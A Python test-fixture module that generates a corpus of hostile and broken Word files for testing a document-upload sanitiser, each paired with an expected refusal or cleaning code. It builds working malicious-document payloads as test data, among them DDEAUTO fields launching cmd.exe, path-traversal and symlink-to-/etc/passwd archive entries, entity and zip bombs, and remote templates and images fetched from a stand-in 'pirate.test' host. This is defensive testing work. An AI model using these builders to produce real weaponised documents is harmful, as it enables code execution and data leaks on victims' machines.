"""Files that a person could receive in the place of a report: hostile, broken, or only dirty.

:func:`write_corpus` writes them all into a folder; each :class:`Case` says what must happen.
"""

from __future__ import annotations

import io
import stat
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from docx import Document
from PIL import Image

WORDS = "Les entrées en conseil progressent « nettement » dans le Finistère"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
TYPES, ROOT, RELATIONS = "[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels"
MAIN = "word/document.xml"
SETTINGS = "word/settings.xml"

Parts = dict[str, bytes]


@dataclass(frozen=True)
class Case:
    """A file and what must happen to it.

    Attributes:
        name: the file's name.
        code: the finding expected.
        make: its bytes.
        cleaned: whether it is let in, cleaned; refused otherwise.
    """

    name: str
    code: str
    make: Callable[[], bytes]
    cleaned: bool = False


def picture(size: tuple[int, int] = (40, 30), kind: str = "PNG") -> bytes:
    """A small sound picture."""
    stream = io.BytesIO()
    Image.new("RGB", size, "teal").save(stream, kind)
    return stream.getvalue()


@cache
def _base() -> bytes:
    document = Document()
    document.add_heading("Un rapport", 1)
    document.add_paragraph(WORDS)
    document.add_picture(io.BytesIO(picture()))
    document.add_table(2, 2).cell(0, 0).text = "1 234"
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def base() -> Parts:
    """The parts of an honest document."""
    with zipfile.ZipFile(io.BytesIO(_base())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive of these parts."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return stream.getvalue()


def replaced(parts: Parts, name: str, old: str, new: str) -> Parts:
    """The parts with a text put in place of the first ``old`` of one of them."""
    text = parts[name].decode()
    assert old in text, (name, old)
    return parts | {name: text.replace(old, new, 1).encode()}


def in_body(xml: str, parts: Parts | None = None) -> Parts:
    """The document with some XML at the start of its body."""
    return replaced(parts or base(), MAIN, "<w:body>", f"<w:body>{xml}")


def related(
    parts: Parts,
    kind: str,
    target: str,
    *,
    external: bool = False,
    name: str = RELATIONS,
    **other: str,
) -> Parts:
    """The parts with one more relation, ``rIdX`` unless ``id`` is given."""
    mode = ' TargetMode="External"' if external else ""
    kind = kind if ":" in kind else f"{OFFICE}/{kind}"
    xml = f'<Relationship Id="{other.get("id", "rIdX")}" Type="{kind}" Target="{target}"{mode}/>'
    if name not in parts:
        space = "http://schemas.openxmlformats.org/package/2006/relationships"
        parts = parts | {name: f'<Relationships xmlns="{space}"></Relationships>'.encode()}
    return replaced(parts, name, "</Relationships>", f"{xml}</Relationships>")


def typed(parts: Parts, name: str, kind: str) -> Parts:
    """The parts with a content type for one of them."""
    entry = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
    return replaced(parts, TYPES, "</Types>", entry)


def runs(*instructions: str, result: str = "voir") -> str:
    """A paragraph with a field whose instruction is cut into several runs."""
    cut = "".join(
        f'<w:r><w:instrText xml:space="preserve">{item}</w:instrText></w:r>'
        for item in instructions
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{cut}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _xml_part(xml: str, encoding: str = "utf-8", name: str = MAIN) -> bytes:
    return zipped(base() | {name: xml.encode(encoding)})


def _doctype(name: str) -> Callable[[], bytes]:
    def make() -> bytes:
        parts = base()
        head, _, rest = parts[name].partition(b"?>")
        bomb = b'<!DOCTYPE x [<!ENTITY a "' + b"A" * 1000 + b'"><!ENTITY b "&a;&a;&a;">]>'
        return zipped(parts | {name: head + b"?>" + bomb + rest})

    return make


def _utf_7() -> bytes:
    xml = base()[MAIN].decode().partition("?>")[2].encode("utf-7")
    return zipped(base() | {MAIN: b'<?xml version="1.0" encoding="UTF-7"?>' + xml})


def _hidden_type() -> bytes:
    """The main part under another name and in UTF-16, found by its type only."""
    parts = base()
    text = parts.pop(MAIN).decode().partition("?>")[2]
    parts["word/document.dat"] = text.encode("utf-16")
    parts["word/_rels/document.dat.rels"] = parts.pop(RELATIONS)
    parts = replaced(parts, TYPES, "/word/document.xml", "/word/document.dat")
    return zipped(replaced(parts, ROOT, "word/document.xml", "word/document.dat"))


def _twice(second: str) -> Callable[[], bytes]:
    def make() -> bytes:
        stream = io.BytesIO()
        with warnings.catch_warnings(), zipfile.ZipFile(stream, "w") as archive:
            warnings.simplefilter("ignore")
            for name, data in base().items():
                archive.writestr(name, data)
            archive.writestr(second, base()[MAIN].replace(b"Finist", b"Morbih"))
        return stream.getvalue()

    return make


def _named(name: str) -> Callable[[], bytes]:
    return lambda: zipped(base() | {name: b"<a/>"})


def _nul_name() -> bytes:
    return zipped(base() | {"word/mXdia.xml": b"<a/>"}).replace(b"word/mXdia", b"word/m\0dia")


def _symlink() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, data in base().items():
            archive.writestr(name, data)
        link = zipfile.ZipInfo("word/media/passwd.png")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return stream.getvalue()


def _other_local_name() -> bytes:
    data = zipped(base())
    place = data.index(b"word/document.xml")
    return data[:place] + b"word/dokument.xml" + data[place + 17 :]


def _lying_size() -> bytes:
    """A member that promises 10 bytes and gives 8 MB."""
    parts = base() | {"word/media/blanc.bmp": bytes(8 * 2**20)}
    data = bytearray(zipped(parts))
    real = struct.pack("<L", 8 * 2**20)
    start = 0
    while (place := data.find(real, start)) >= 0:
        data[place : place + 4] = struct.pack("<L", 10)
        start = place + 4
    return bytes(data)


def _overlap() -> bytes:
    """A member that quotes the next one: the same bytes are given twice."""
    inner = zipped({"bbbb.xml": b"<b>" + b"x" * 1000 + b"</b>"}, zipfile.ZIP_STORED)
    quoted = inner[: inner.index(b"PK\x01\x02")]
    data = bytearray(
        zipped({"aaaa.xml": b"", "bbbb.xml": quoted[38:], **base()}, zipfile.ZIP_STORED)
    )
    told = struct.pack("<3L", zlib.crc32(quoted), len(quoted), len(quoted))
    for place in (14, data.index(b"PK\x01\x02") + 16):
        data[place : place + 12] = told
    return bytes(data)


def _hidden_between() -> bytes:
    """Bytes between the members and the directory, that offsets jump over."""
    data = zipped(base())
    end = data.rindex(b"PK\x05\x06")
    size, start = struct.unpack_from("<2L", data, end + 12)
    moved = data[end : end + 12] + struct.pack("<2L", size, start + 500) + data[end + 20 :]
    return data[:start] + b"MZ" + bytes(498) + data[start:end] + moved


def _encrypted_flag() -> bytes:
    data = bytearray(zipped(base()))
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        data[start + place] |= 1
    return bytes(data)


def _method(method: int) -> Callable[[], bytes]:
    return lambda: zipped(base(), method)


def _ole(stream: str) -> bytes:
    return OLE + bytes(504) + stream.encode("utf-16-le") + bytes(1500)


def _macros(name: str = "word/vbaProject.bin") -> bytes:
    parts = base() | {name: _ole("_VBA_PROJECT")}
    return zipped(related(parts, f"{MICROSOFT}/2006/relationships/vbaProject", name[5:]))


def _macro_type() -> bytes:
    plain = "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macro = "vnd.ms-word.document.macroEnabled.main+xml"
    return zipped(replaced(base(), TYPES, plain, macro))


def _template_type() -> bytes:
    return zipped(
        replaced(base(), TYPES, "wordprocessingml.document.main", "wordprocessingml.template.main")
    )


def _part(name: str, data: bytes, kind: str, xml: str = "") -> Callable[[], bytes]:
    """A part related to the document, and some XML that calls it."""
    return lambda: zipped(
        related(_with(in_body(xml), name, data), kind, name.removeprefix("word/"))
    )


def _with(parts: Parts, name: str, data: bytes) -> Parts:
    """The parts and one more, of a type that says nothing."""
    return typed(parts | {name: data}, name, "application/octet-stream")


def _external(kind: str, target: str, xml: str = "", name: str = RELATIONS) -> Callable[[], bytes]:
    return lambda: zipped(related(in_body(xml), kind, target, external=True, name=name))


def _field(*instructions: str) -> Callable[[], bytes]:
    return lambda: zipped(in_body(runs(*instructions)))


def _body(xml: str) -> Callable[[], bytes]:
    return lambda: zipped(in_body(xml))


def _nested_name() -> bytes:
    inner = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        "<w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return zipped(
        in_body(
            runs("{}", " c:\\\\x.exe").replace(
                '<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>', inner
            )
        )
    )


def _png_bomb() -> bytes:
    """60,000 × 60,000 points in a few hundred bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))
        )

    header = chunk(b"IHDR", struct.pack(">2L5B", 60_000, 60_000, 1, 0, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + header
        + chunk(b"IDAT", zlib.compress(bytes(1000)))
        + chunk(b"IEND", b"")
    )


def _media(name: str, data: bytes) -> Callable[[], bytes]:
    return _part(f"word/media/{name}", data, "image")


def _emf() -> bytes:
    head = struct.pack("<2L4l", 1, 108, 0, 0, 100_000, 100_000)
    return head + struct.pack("<4l", 0, 0, 1, 1) + b" EMF" + bytes(64)


def _svg(inside: str) -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{inside}</svg>'.encode()


def _dropped_main() -> bytes:
    parts = base()
    del parts[MAIN]
    return zipped(parts)


def _two_documents() -> bytes:
    parts = base()
    parts["word/document2.xml"] = parts[MAIN]
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts = typed(parts, "word/document2.xml", kind)
    return zipped(related(parts, "officeDocument", "word/document2.xml", name=ROOT))


def _many_relations() -> bytes:
    parts = base()
    more = "".join(
        f'<Relationship Id="x{n}" Type="{OFFICE}/hyperlink" Target="https://a.fr/{n}" TargetMode="External"/>'
        for n in range(6000)
    )
    return zipped(replaced(parts, RELATIONS, "</Relationships>", f"{more}</Relationships>"))


def _in_settings(xml: str, kind: str, target: str) -> Callable[[], bytes]:
    def make() -> bytes:
        space = f'xmlns:r="{OFFICE}"'
        parts = replaced(base(), SETTINGS, "</w:settings>", f"{xml.format(r=space)}</w:settings>")
        rels = "word/_rels/settings.xml.rels"
        return zipped(related(parts, kind, target, external=True, name=rels))

    return make


def _other_zip(names: Mapping[str, str]) -> Callable[[], bytes]:
    return lambda: zipped({name: data.encode() for name, data in names.items()})


_OBJECT = (
    '<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:v="urn:schemas-microsoft-com:vml" w:dxaOrig="10"><v:shape id="s1" style="width:9pt">'
    '<v:imagedata r:id="rIdP"/></v:shape><o:OLEObject Type="{kind}" ProgID="Excel.Sheet.12" '
    'ShapeID="s1" DrawAspect="Content" ObjectID="_1" r:id="rIdX"/></w:object></w:r></w:p>'
)


def _embedded(kind: str, data: bytes, name: str = "classeur.xlsx") -> Callable[[], bytes]:
    def make() -> bytes:
        parts = in_body(_OBJECT.format(kind=kind)) | {"word/media/vue.png": picture()}
        parts = _with(parts, f"word/embeddings/{name}", data)
        parts = related(parts, "image", "media/vue.png", id="rIdP")
        return zipped(related(parts, "package", f"embeddings/{name}"))

    return make


def _chart() -> bytes:
    """A chart pasted from Excel, linked to its workbook (what Word does by default)."""
    space = "http://schemas.openxmlformats.org/drawingml/2006/chart"
    chart = (
        f'<c:chartSpace xmlns:c="{space}" xmlns:r="{OFFICE}"><c:chart/>'
        '<c:externalData r:id="rIdX"><c:autoUpdate val="0"/></c:externalData></c:chartSpace>'
    )
    kind = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
    parts = typed(
        base() | {"word/charts/chart1.xml": chart.encode()}, "word/charts/chart1.xml", kind
    )
    parts = related(parts, "chart", "charts/chart1.xml")
    rels = "word/charts/_rels/chart1.xml.rels"
    return zipped(
        related(parts, "oleObject", "file:///C:\\Suivi\\chiffres.xlsx", external=True, name=rels)
    )


def _link(target: str) -> Callable[[], bytes]:
    xml = '<w:p><w:hyperlink r:id="rIdX"><w:r><w:t>lien gardé</w:t></w:r></w:hyperlink></w:p>'
    return _external("hyperlink", target, xml)


def _signed() -> bytes:
    parts = base() | {"_xmlsignatures/origin.sigs": b"", "_xmlsignatures/sig1.xml": b"<Signature/>"}
    package = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature"
    parts = related(parts, f"{package}/origin", "_xmlsignatures/origin.sigs", name=ROOT)
    rels = "_xmlsignatures/_rels/origin.sigs.rels"
    return zipped(related(parts, f"{package}/signature", "sig1.xml", name=rels))


def _root_part(name: str, kind: str) -> Callable[[], bytes]:
    return lambda: zipped(related(_with(base(), name, b"<a/>"), kind, name, name=ROOT))


def _deep() -> bytes:
    return zipped(in_body("<w:p>" + "<w:r>" * 5000 + "</w:r>" * 5000 + "</w:p>"))


REFUSED = (
    Case("vide.docx", "001", lambda: b""),
    Case("~$rapport.docx", "001", lambda: b"\x05Annie" + bytes(156)),
    Case("ancien.docx", "002", lambda: _ole("WordDocument")),
    Case("ancien-tableur.docx", "002", lambda: _ole("Workbook")),
    Case("pdf.docx", "002", lambda: b"%PDF-1.7\n%" + bytes(99)),
    Case("rtf.docx", "002", lambda: b"{\\rtf1\\ansi {\\object\\objautlink}}"),
    Case("page.docx", "002", lambda: b"<html><body>bonjour</body></html>"),
    Case("mhtml.docx", "002", lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n"),
    Case("texte.docx", "002", WORDS.encode),
    Case("image.docx", "002", picture),
    Case(
        "odt.docx", "002", _other_zip({"mimetype": "application/vnd.oasis", "content.xml": "<a/>"})
    ),
    Case("xlsx.docx", "002", _other_zip({TYPES: "<Types/>", "xl/workbook.xml": "<a/>"})),
    Case("pptx.docx", "002", _other_zip({TYPES: "<Types/>", "ppt/presentation.xml": "<a/>"})),
    Case("lot.docx", "002", _other_zip({"a.docx": "PK", "b.docx": "PK"})),
    Case("modele.docx", "002", _template_type),
    Case("rapport.docm", "002", _base),
    Case("rapport.zip", "002", _base),
    Case(
        "strict.docx",
        "002",
        lambda: zipped(
            replaced(
                base(),
                ROOT,
                f"{OFFICE}/officeDocument",
                "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
            )
        ),
    ),
    Case("mot-de-passe.docx", "003", lambda: _ole("EncryptedPackage")),
    Case("zip-chiffre.docx", "003", _encrypted_flag),
    Case("tronque.docx", "004", lambda: _base()[: len(_base()) // 2]),
    Case("tronque-a-la-fin.docx", "004", lambda: _base()[:-10]),
    Case("lzma.docx", "004", _method(zipfile.ZIP_LZMA)),
    Case("bzip2.docx", "004", _method(zipfile.ZIP_BZIP2)),
    Case("prefixe.docx", "005", lambda: b"MZ" + bytes(1000) + _base()),
    Case("suffixe.docx", "005", lambda: _base() + b"<script>" * 100),
    Case("entre-deux.docx", "005", _hidden_between),
    Case("double.docx", "006", _twice(MAIN)),
    Case("double-casse.docx", "006", _twice("word/Document.XML")),
    Case("double-echappe.docx", "006", _twice("word/%64ocument.xml")),
    Case("double-largeur.docx", "006", _twice("word/ｄocument.xml")),
    Case("chevauchement.docx", "006", _overlap),
    Case("parent.docx", "007", _named("word/../../../tmp/x.xml")),
    Case("absolu.docx", "007", _named("/etc/cron.d/x.xml")),
    Case("oblique.docx", "007", _named("word\\media\\x.xml")),
    Case("lecteur.docx", "007", _named("C:x.xml")),
    Case("nul.docx", "007", _nul_name),
    Case("echappe.docx", "007", _named("word/%2e%2e/%2e%2e/x.xml")),
    Case("lien-symbolique.docx", "007", _symlink),
    Case("autre-nom-local.docx", "007", _other_local_name),
    Case(
        "relation-dehors.docx",
        "007",
        (lambda: zipped(related(base(), "image", "../../../../etc/passwd"))),
    ),
    Case("bombe.docx", "008", lambda: zipped(base() | {"word/media/x.bmp": bytes(30 * 2**20)})),
    Case(
        "bombe-somme.docx",
        "008",
        lambda: zipped(base() | {f"word/media/{n}.bmp": bytes(2**20) for n in range(80)}),
    ),
    Case("taille-menteuse.docx", "008", _lying_size),
    Case(
        "mille-parties.docx",
        "008",
        lambda: zipped(base() | {f"word/media/{n}.png": b"" for n in range(3000)}),
    ),
    Case("mille-relations.docx", "008", _many_relations),
    Case("elements.docx", "008", _body("<w:p/>" * 700_000)),
    Case(
        "attributs.docx",
        "008",
        lambda: zipped(in_body("<w:p " + " ".join(f'a{n}="x"' for n in range(500_000)) + "/>")),
    ),
    Case("champs.docx", "008", _body(runs(*["x"] * 40_000))),
    Case(
        "champs-imbriques.docx",
        "008",
        _body("<w:p>" + '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 100 + "</w:p>"),
    ),
    Case("entites.docx", "009", _doctype(MAIN)),
    Case("entites-relations.docx", "009", _doctype(RELATIONS)),
    Case("entites-types.docx", "009", _doctype(TYPES)),
    Case(
        "utf-16.docx", "009", lambda: _xml_part(base()[MAIN].decode().partition("?>")[2], "utf-16")
    ),
    Case("utf-7.docx", "009", _utf_7),
    Case("type-cache.docx", "009", _hidden_type),
    Case("mal-forme.docx", "010", lambda: zipped(base() | {MAIN: base()[MAIN][:-30]})),
    Case("profond.docx", "010", _deep),
    Case(
        "relations-doubles.docx",
        "011",
        lambda: zipped(
            related(related(base(), "image", "media/image1.png"), "image", "media/image1.png")
        ),
    ),
    Case("sans-texte.docx", "011", _dropped_main),
    Case("sans-types.docx", "002", lambda: zipped({MAIN: base()[MAIN]})),
    Case(
        "sans-type.docx",
        "011",
        lambda: zipped(related(base() | {"word/x.zzz": picture()}, "image", "x.zzz")),
    ),
    Case("deux-documents.docx", "011", _two_documents),
    Case(
        "sans-corps.docx",
        "011",
        lambda: zipped(
            replaced(replaced(base(), MAIN, "<w:body>", "<w:x>"), MAIN, "</w:body>", "</w:x>")
        ),
    ),
    Case("macros.docx", "012", _macros),
    Case("macros-renommees.docx", "012", lambda: _macros("word/media9.dat")),
    Case("macros-type.docx", "012", _macro_type),
    Case(
        "classeur-a-macros.docx",
        "012",
        _embedded("Embed", zipped({"xl/vbaProject.bin": b"x"}, zipfile.ZIP_STORED), "c.xlsm"),
    ),
    Case(
        "barres-d-outils.docx",
        "012",
        _part(
            "word/attachedToolbars.bin", b"x", f"{MICROSOFT}/2006/relationships/attachedToolbars"
        ),
    ),
    Case("ole.docx", "013", _part("word/embeddings/oleObject1.bin", _ole("Package"), "oleObject")),
    Case("ole-dans-image.docx", "013", _media("p.png", picture() + _ole("Package"))),
    Case("objet-brut.docx", "013", _part("word/embeddings/o.bin", b"MZ\x90", "package")),
    Case("objet-lie.docx", "013", _embedded("Link", zipped({"a": b"b"}))),
    Case(
        "activex.docx",
        "013",
        _part(
            "word/activeX/activeX1.xml",
            b"<ax/>",
            "control",
            '<w:p><w:r><w:control r:id="rIdX" w:name="c"/></w:r></w:p>',
        ),
    ),
    Case("dde.docx", "014", _field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    Case("dde-coupe.docx", "014", _field(" D", "DE", "AU", "TO ", "c:\\\\x.exe")),
    Case(
        "dde-simple.docx",
        "014",
        _body(
            '<w:p><w:fldSimple w:instr=" dde excel x.xlsx A1"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
        ),
    ),
    Case(
        "dde-dans-un-champ.docx",
        "014",
        _body(runs(' IF 1 = 1 "').replace("</w:p>", runs("DDEAUTO x")[5:])),
    ),
    Case("dde-cache.docx", "014", _nested_name),
    Case(
        "dde-inacheve.docx",
        "014",
        _body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r></w:p>'
        ),
    ),
    Case(
        "dde-en-note.docx",
        "014",
        _part(
            "word/notes9.xml",
            (
                '<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                f"{runs('DDE x y')}</w:footnotes>"
            ).encode(),
            "footnotes",
        ),
    ),
    Case("inclure-texte.docx", "014", _field(' INCLUDETEXT "\\\\\\\\serveur\\\\x.docx"')),
    Case("inclure-image.docx", "014", _field(' INCLUDEPICTURE "https://pirate.test/x.png" \\d')),
    Case("importer.docx", "014", _field(" IMPORT c:\\\\x.wmf")),
    Case("lier.docx", "014", _field(" LINK Excel.Sheet.8 c:\\\\x.xls A1")),
    Case("bouton-macro.docx", "014", _field(" MACROBUTTON AutoOpen cliquez")),
    Case("image-liee.docx", "015", _external("image", "https://pirate.test/x.png")),
    Case("image-smb.docx", "015", _external("image", "\\\\pirate\\x.png")),
    Case(
        "image-sans-mode.docx",
        "015",
        lambda: zipped(related(base(), "image", "https://pirate.test/x.png")),
    ),
    Case(
        "image-vml.docx",
        "015",
        _body(
            '<w:p><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill '
            'src="https://pirate.test/x"/></v:rect></w:pict></w:r></w:p>'
        ),
    ),
    Case("ole-distant.docx", "015", _external("oleObject", "mhtml:https://pirate.test/x!x")),
    Case(
        "modele-distant.docx",
        "015",
        _in_settings(
            '<w:attachedTemplate {r} r:id="rIdX"/>',
            "attachedTemplate",
            "https://pirate.test/x.dotm",
        ),
    ),
    Case("donnees-distantes.docx", "015", _external("customXml", "https://pirate.test/x.xml")),
    Case(
        "morceau.docx",
        "016",
        _part("word/afchunk.mht", b"MIME-Version: 1.0", "aFChunk", '<w:altChunk r:id="rIdX"/>'),
    ),
    Case(
        "sous-document.docx",
        "016",
        _external("subDocument", "https://pirate.test/x.docx", '<w:subDoc r:id="rIdX"/>'),
    ),
    Case("cadre.docx", "016", _external("frame", "https://pirate.test/x.html")),
    Case("bombe-png.docx", "017", _media("b.png", _png_bomb())),
    Case("bombe-emf.docx", "017", _media("b.emf", _emf())),
    Case("bombe-gif.docx", "017", _media("b.gif", b"GIF89a\xff\xff\xff\xff" + bytes(30))),
    Case("image-tronquee.docx", "017", _media("b.jpg", picture(kind="JPEG")[:20])),
    Case("svg-script.docx", "017", _media("s.svg", _svg("<script>alert(1)</script>"))),
    Case("svg-renvoi.docx", "017", _media("s.svg", _svg('<image href="https://pirate.test/x"/>'))),
    Case("svg-clic.docx", "017", _media("s.svg", _svg('<g onclick="x()"/>'))),
)

CLEANED = (
    Case(
        "modele-local.docx",
        "018",
        _in_settings(
            '<w:attachedTemplate {r} r:id="rIdX"/>',
            "attachedTemplate",
            "file:///C:\\Users\\Annie\\Mod%C3%A8les\\Normal.dotm",
        ),
        cleaned=True,
    ),
    Case(
        "modele-serveur.docx",
        "018",
        _in_settings(
            '<w:attachedTemplate {r} r:id="rIdX"/>',
            "attachedTemplate",
            "\\\\srv\\modeles\\note.dotx",
        ),
        cleaned=True,
    ),
    Case(
        "classeur-colle.docx",
        "019",
        _embedded("Embed", zipped({"xl/workbook.xml": b"<a/>"})),
        cleaned=True,
    ),
    Case("graphique-lie.docx", "019", _chart, cleaned=True),
    Case("lien-fichier.docx", "020", _link("file:///C:\\x.docx"), cleaned=True),
    Case("lien-script.docx", "020", _link("javascript:alert(1)"), cleaned=True),
    Case("lien-serveur.docx", "020", _link("\\\\serveur\\partage"), cleaned=True),
    Case("lien-macro.docx", "020", _link("vnd.sun.star.script:x?language=Basic"), cleaned=True),
    Case("lien-relatif.docx", "020", _link("annexe.docx"), cleaned=True),
    Case("lien-champ.docx", "020", _field(' HYPERLINK "file:///c:\\x.exe" '), cleaned=True),
    Case(
        "imprimante.docx",
        "021",
        _part("word/printerSettings1.bin", bytes(99), "printerSettings"),
        cleaned=True,
    ),
    Case(
        "blocs.docx",
        "021",
        _part("word/glossary/document.xml", b"<a/>", "glossaryDocument"),
        cleaned=True,
    ),
    Case(
        "complement.docx",
        "021",
        _root_part(
            "word/webextensions/taskpanes.xml",
            f"{MICROSOFT}/2011/relationships/webextensiontaskpanes",
        ),
        cleaned=True,
    ),
    Case(
        "ruban.docx",
        "021",
        _root_part("customUI/customUI.xml", f"{MICROSOFT}/2006/relationships/ui/extensibility"),
        cleaned=True,
    ),
    Case(
        "corbeille.docx",
        "021",
        lambda: zipped(base() | {"[trash]/0000.dat": bytes(40)}),
        cleaned=True,
    ),
    Case("video.docx", "021", _media("film.mp4", b"\0\0\0\x18ftypmp42" + bytes(99)), cleaned=True),
    Case("signe.docx", "022", _signed, cleaned=True),
    Case(
        "publipostage.docx",
        "023",
        _in_settings(
            '<w:mailMerge><w:dataSource {r} r:id="rIdX"/></w:mailMerge>',
            "mailMergeSource",
            "file:///C:\\adresses.xlsx",
        ),
        cleaned=True,
    ),
    Case(
        "schema.docx",
        "023",
        lambda: zipped(
            replaced(
                base(), SETTINGS, "</w:settings>", '<w:attachedSchema w:val="urn:x"/></w:settings>'
            )
        ),
        cleaned=True,
    ),
    Case(
        "image-absente.docx", "024", lambda: zipped(related(base(), "image", "NULL")), cleaned=True
    ),
)


def write_corpus(folder: Path) -> dict[Path, Case]:
    """Write every file into ``folder``; what must happen to each."""
    written = {}
    for case in (*REFUSED, *CLEANED):
        path = folder / case.name
        path.write_bytes(case.make())
        written[path] = case
    return written
